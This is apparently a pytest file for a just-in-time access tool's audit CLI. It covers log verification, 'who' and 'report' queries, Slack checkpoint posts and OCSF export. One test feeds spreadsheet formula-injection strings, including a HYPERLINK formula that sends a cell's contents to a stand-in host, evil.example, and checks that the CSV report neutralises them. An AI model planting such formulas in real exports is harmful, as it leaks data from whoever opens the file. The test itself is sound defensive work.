"""The auditor's tools over a log the real services and jobs wrote, and the checkpoint's post to Slack."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import yaml

from jit_lb.audit import cli
from jit_lb.audit.ocsf import OCSF_VERSION
from tests.ocsf_schema import OcsfSchema
from tests.service.world import APPROVALS, World
from workers import jobs


def run(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    code = cli.main(list(args), out=out)
    return code, out.getvalue()


def json_lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def iso(moment: datetime | None) -> str | None:
    return None if moment is None else moment.isoformat().replace("+00:00", "Z")


async def test_verify_who_and_report_agree_with_the_grants_made(world: World) -> None:
    """A grant its requester ended and a denied request: the log verifies, and `who` and `report` say just that."""
    granted = await world.granted()
    during = datetime.now(UTC)
    assert jobs.revoke_access(granted.id, "revoked", "U0DEV1") == "revoked"
    after = datetime.now(UTC)
    denied = await world.request("U0DEV2", "request lb-prod 30m looking around")
    world.click("U0APPROVER1", "jit_deny", denied)
    ended = world.rt.store.get(granted.id)
    log = str(world.audit_path)

    assert run("verify", log)[0] == 0

    code, out = run("who", "lb-prod", "--at", iso(during) or "", "--format", "json", log)
    assert code == 0
    (grant,) = json_lines(out)
    assert (granted.id, "U0DEV1", ["U0APPROVER1"]) == (grant["request_id"], grant["requester"], grant["approvers"])
    assert (iso(ended.granted_at), iso(ended.ended_at)) == (grant["granted_at"], grant["until"])
    assert f"nobody had access to lb-prod at {iso(after)}" in run("who", "lb-prod", "--at", iso(after) or "", log)[1]

    rows = {row["request_id"]: row for row in json_lines(run("report", "--format", "json", log)[1])}
    assert [granted.id, denied.id] == list(rows)
    revoked = rows[granted.id]
    assert (revoked["requester"], revoked["target"], revoked["reason"]) == ("U0DEV1", "lb-prod", "debugging 502s")
    assert (
        revoked["approvers"],
        revoked["outcome"],
        revoked["end_reason"],
        revoked["ended_by"],
    ) == (["U0APPROVER1"], "revoked", "revoked", "U0DEV1")
    assert (iso(ended.granted_at), iso(ended.ended_at)) == (revoked["granted_at"], revoked["ended_at"])
    assert ended.ended_at is not None and ended.granted_at is not None
    assert revoked["lasted_seconds"] == int((ended.ended_at - ended.granted_at).total_seconds())
    assert (
        rows[denied.id]["mfa"],
        rows[denied.id]["outcome"],
        rows[denied.id]["ended_by"],
        rows[denied.id]["granted_at"],
    ) == (False, "denied", "U0APPROVER1", None)

    only_dev2 = json_lines(run("report", "--format", "json", "--user", "U0DEV2", log)[1])
    assert [denied.id] == [row["request_id"] for row in only_dev2]
    assert run("report", "--format", "json", "--until", iso(ended.granted_at) or "", "--target", "lb-two", log)[1] == ""
    table = list(csv.DictReader(io.StringIO(run("report", log)[1])))
    assert [granted.id, denied.id] == [row["request_id"] for row in table]
    assert (table[0]["approvers"], table[0]["mfa"]) == ("U0APPROVER1", "no")


async def test_a_csv_report_makes_a_typed_formula_inert(world: World) -> None:
    """Reasons typed as `=HYPERLINK(…)`, `+1`, `-2`, `@SUM(…)` come out of the CSV report starting with `'`, so a
    spreadsheet shows them as text instead of running them; the JSON report keeps them as typed."""
    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 pager", "-2 pager", "@SUM(A1:A9)"]
    ids = []
    for reason in typed:  # denied one by one: a person has at most 3 pending
        request = await world.request("U0DEV1", f"request lb-prod 30m {reason}")
        world.click("U0APPROVER1", "jit_deny", request)
        ids.append(request.id)
    log = str(world.audit_path)

    table = {row["request_id"]: row["reason"] for row in csv.DictReader(io.StringIO(run("report", log)[1]))}
    rows = {row["request_id"]: row["reason"] for row in json_lines(run("report", "--format", "json", log)[1])}

    assert ["'" + reason for reason in typed] == [table[request_id] for request_id in ids]
    assert typed == [rows[request_id] for request_id in ids]


async def test_a_checkpoint_is_posted_as_chain_seq_hash_to_the_audit_channel(world: World, tmp_path: Path) -> None:
    """The witness posts CHAIN:SEQ:HASH to the approver channel, or to `audit_channel` once the policy names one."""
    world.rt.audit.start_chain("worker", witness=world.notifier.post_checkpoint)
    first = world.rt.audit.checkpoint("stop", background=False)
    assert first is not None
    policy_file = Path(world.rt.settings.jit_policy_file)
    policy = yaml.safe_load(policy_file.read_text())
    policy_file.write_text(yaml.safe_dump({**policy, "audit_channel": "C0AUDIT"}))
    assert world.rt.reload_policy()

    second = world.rt.audit.checkpoint("stop", background=False)
    assert second is not None

    posts = [call.args for call in world.slack.calls("chat.postMessage") if "(stop)" in call.args["text"]]
    assert [post["channel"] for post in posts] == [APPROVALS, "C0AUDIT"]
    for post, record in zip(posts, (first, second), strict=True):
        assert f"{record['chain']}:{record['seq']}:{record['hash']}" in post["text"]
    assert (first["seq"] + 2, first["chain"]) == (second["seq"], second["chain"])  # policy.reloaded between


async def test_the_ocsf_export_of_a_real_log_validates_against_the_ocsf_schema(world: World) -> None:
    """A log the services and jobs wrote (request, approval, grant, revoke, denial): every record one valid event."""
    granted = await world.granted()
    assert jobs.revoke_access(granted.id, "revoked", "U0DEV1") == "revoked"
    denied = await world.request("U0DEV2", "request lb-prod 30m looking around")
    world.click("U0APPROVER1", "jit_deny", denied)
    records = json_lines(world.audit_path.read_text(encoding="utf-8"))

    code, out = run("export", "--format", "ocsf", str(world.audit_path))

    events = json_lines(out)
    assert (code, [event["unmapped"] for event in events]) == (0, records)
    schema = OcsfSchema(OCSF_VERSION)
    assert {event["metadata"]["event_code"]: schema.problems(event) for event in events if schema.problems(event)} == {}
    by_code = {event["metadata"]["event_code"]: event for event in events}
    assert (by_code["request.approved"]["class_uid"], by_code["request.approved"]["actor"]["user"]["uid"]) == (
        3003,
        "U0APPROVER1",
    )
    assert (by_code["grant.applied"]["type_uid"], by_code["grant.revoked"]["type_uid"]) == (300501, 300502)
    assert (by_code["request.denied"]["status_id"], by_code["request.denied"]["user"]["uid"]) == (2, "U0DEV2")
